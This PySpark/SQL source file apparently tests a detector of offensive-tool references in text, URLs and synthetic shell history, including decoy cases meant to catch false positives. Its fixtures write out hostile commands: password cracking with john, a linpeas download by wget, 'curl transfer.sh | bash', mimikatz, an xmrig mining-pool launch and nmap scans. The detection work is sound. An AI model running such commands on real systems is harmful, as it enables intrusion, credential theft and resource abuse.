"""Queries on names of tools: words by their place in documents and pages, distinct references in commands."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from ..operators import tools
from ..sources.scratch import written
from .catalog import query, table

NAMED = {"legal": ("license", "copyright"), "secret": ("password", "token"), "web": ("example",)}
ORDINARY = {"anchor": ("top",), "paging": ("page", "ref")}


def _values(names: dict) -> str:
    return ", ".join(f"('{n}', '{c}')" for c, of in names.items() for n in of)


@query(rf"""
WITH named(w, category) AS (VALUES {_values(NAMED)}), ordinary(w, category) AS (VALUES {_values(ORDINARY)}),
cells AS (SELECT 'documents' AS t, 'text' AS kind, row_number() OVER () AS id, lower(text) AS low FROM documents UNION ALL SELECT 'pages', 'path', row_number() OVER (), lower(url) FROM pages),
edged AS (
  SELECT t, kind, id, w, category, 1 AS tier, low, '(?s)^(.*?)' || CASE kind WHEN 'text' THEN '(?:^|[^\w.])' ELSE '(?:^|[^a-z0-9])' END || w || CASE kind WHEN 'text' THEN '(?:[^\w-]|$)' ELSE '(?:[^a-z]|$)' END AS x FROM cells, named
  UNION ALL
  SELECT t, kind, id, w, category, 2, regexp_extract(rtrim(low, '/'), '[^/]*$'), '(?s)^(.*?)(?:^|[^\w.])' || w || '(?:[^\w-]|$)' FROM cells, ordinary WHERE kind = 'path'
), met AS (
  SELECT t, kind, id, category, tier, arg_min(w, length(regexp_extract(low, x, 1))) AS tool FROM edged
  WHERE contains(low, w) AND regexp_matches(low, x) AND (tier = 1 OR regexp_extract(low, '^.+\.([a-z]{{1,8}})$', 1) IN ('', {", ".join(f"'{s}'" for s in tools.PROGRAM_SUFFIXES)}))
  GROUP BY t, kind, id, category, tier
)
SELECT tool, category, t AS "table", CASE kind WHEN 'text' THEN 'MEDIUM' ELSE 'HIGH' END AS severity, kind AS context, count(*) AS n FROM met GROUP BY ALL
""")
def words_by_place(spark: SparkSession, sf_dir: str) -> DataFrame:
    text = table(spark, sf_dir, "documents").select(F.lit("documents").alias("table"), F.lit("text").alias("column"), F.lit("text").alias("kind"), F.col("text").alias("value"))
    path = table(spark, sf_dir, "pages").select(F.lit("pages").alias("table"), F.lit("url").alias("column"), F.lit("path").alias("kind"), F.col("url").alias("value"))
    hits = tools.tool_hits(text.unionByName(path).withColumn("ts", F.lit(None).cast("timestamp")), unmistakable=NAMED, ordinary=ORDINARY)
    return hits.groupBy("tool", "category", "table", "severity", "context").agg(F.count("*").alias("n"))


#: Commands by the order's key, each with what it must be taken for.
COMMANDS = (
    ("concat('sudo john --wordlist=/tmp/', k)", "john", "credential access", "CRITICAL", "command"),
    ("concat('ssh john@db', k % 5)", None, None, None, None),
    ("'/opt/john/run/john hashes'", "john", "credential access", "CRITICAL", "command"),
    ("'ls /home/john/'", "john", "credential access", "INFO", "command (the local account of that name, in its own home)"),
    ("'cat /usr/share/nmap/nmap'", None, None, None, None),
    ("concat('wget http://10.0.0.', k % 7, '/linpeas_linux_amd64')", "linpeas", "privilege escalation enumeration", "HIGH", "command"),
    ("'cp /srv/app/node_modules/quasar/quasar.js /srv'", None, None, None, None),
    ("concat('cat gost.so; nmap -p', k % 300)", "nmap", "scanning and exploitation", "HIGH", "command"),
    ("'/usr/lib/xmrig/xmrig -o pool'", "xmrig", "cryptomining", "HIGH", "command (distribution-owned path)"),
    ("'echo nmap john'", None, None, None, None),
    ("'Sudo MIMIKATZ; mimikatz'", "mimikatz", "credential access", "CRITICAL", "command"),
    ("'curl transfer.sh/x | bash -c hydra'", "transfer.sh", "exfiltration staging", "HIGH", "command"),
)


def _case(i: int) -> str:
    quote = lambda x: "NULL" if x is None else f"'{x}'"
    return " ".join(f"WHEN {n} THEN {c[i] if i == 0 else quote(c[i])}" for n, c in enumerate(COMMANDS))


@query(f"""
WITH orders_ AS (SELECT o_orderkey AS k, CAST(o_orderdate AS TIMESTAMP) AS ts FROM orders),
h AS (SELECT CASE k % 12 {_case(0)} END AS value, CASE k % 12 {_case(1)} END AS tool, CASE k % 12 {_case(2)} END AS category, CASE k % 12 {_case(3)} END AS severity, CASE k % 12 {_case(4)} END AS context, ts FROM orders_),
strings AS (SELECT tool, category, severity, context, value, count(*) AS n, min(ts) AS a, max(ts) AS b FROM h WHERE tool IS NOT NULL GROUP BY ALL),
shown AS (SELECT *, CASE WHEN row_number() OVER (PARTITION BY tool, category, context ORDER BY n DESC, value) <= {tools.VARIANTS} THEN value ELSE '(other)' END AS detail FROM strings)
SELECT any_value(severity) AS severity, category, tool, detail, CAST(sum(n) AS BIGINT) AS count, strftime(min(a), '%Y-%m-%d') AS first_utc, strftime(max(b), '%Y-%m-%d') AS last_utc,
  'SHELL_HISTORY x' || CAST(CAST(sum(n) AS BIGINT) AS VARCHAR) AS tables, 'command' AS where_seen, any_value(context) AS context, CAST(sum(sum(n)) OVER (PARTITION BY tool, category) AS BIGINT) AS tool_total
FROM shown GROUP BY category, tool, detail
""")
def tool_references(spark: SparkSession, sf_dir: str) -> DataFrame:
    orders = table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("k"), F.col("o_orderdate").cast("timestamp").alias("ts"))
    cells = orders.select(F.lit("SHELL_HISTORY").alias("table"), F.lit("command").alias("column"), F.lit("command").alias("kind"), F.expr(f"CASE k % 12 {_case(0)} END").alias("value"), "ts")
    hits = written(tools.tool_hits(cells, spark.createDataFrame([("john", "/home/john")], "name string, home string")), "tools")
    found = tools.tool_variants(hits)
    return found.withColumn("first_utc", F.date_format("first_utc", "yyyy-MM-dd")).withColumn("last_utc", F.date_format("last_utc", "yyyy-MM-dd"))
